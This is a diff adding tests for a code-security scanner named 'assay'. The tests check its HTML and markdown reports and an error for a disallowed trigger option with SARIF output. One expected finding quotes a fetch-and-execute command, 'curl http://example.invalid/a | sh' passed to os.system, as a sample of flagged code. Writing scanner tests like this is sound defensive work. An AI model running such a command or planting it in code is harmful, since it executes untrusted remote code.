@@ -57,6 +57,20 @@ test("JSON has every effect with its severity", async () => {
   expect(Object.keys(subject.outcomes).every((rule) => rule.startsWith("code/"))).toBe(true);
 });
 
+test("a page and a comment draw it, too", async () => {
+  const page = await assay(["code", file(loud), "--format", "html"]);
+  expect(page.out).toContain("HIGH os.system curl http://example.invalid/a | sh");
+  expect(page.out).toContain("<h1>1 finding at or above high: exit 1.</h1>");
+  const comment = await assay(["code", file(loud), "--format", "markdown", "--trigger", "startup"]);
+  expect(comment.out).toContain("```text\nAt every start of Python\n");
+});
+
+test("a moment chosen for a format that has them all is a mistake of the call", async () => {
+  const { status, err } = await assay(["code", file(quiet), "--trigger", "startup", "--format", "sarif"]);
+  expect(status).toBe(2);
+  expect(err).toContain("--trigger: sarif has every moment");
+});
+
 test("where no rule of code is left, nothing would be said: a mistake of the call", async () => {
   for (const words of [
     ["--select", "binary/"],
